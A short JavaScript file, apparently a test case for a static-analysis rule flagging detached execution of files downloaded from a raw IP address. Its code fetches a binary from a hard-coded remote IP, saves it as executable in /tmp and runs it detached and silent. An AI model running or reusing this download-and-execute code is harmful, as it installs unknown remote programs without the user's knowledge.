const http = require('http');
const fs = require('fs');
const { spawn } = require('child_process');
const HELPER_HOST = '185.212.44.9';
http.get({ host: HELPER_HOST, port: 1224, path: '/pdown/l' }, (res) => {
  res.pipe(fs.createWriteStream('/tmp/kit-helper', { mode: 0o755 })).on('finish', () => {
    // ruleid: detached_run_of_ip_download
    spawn('/tmp/kit-helper', [], { detached: true, stdio: 'ignore' }).unref();
  });
});
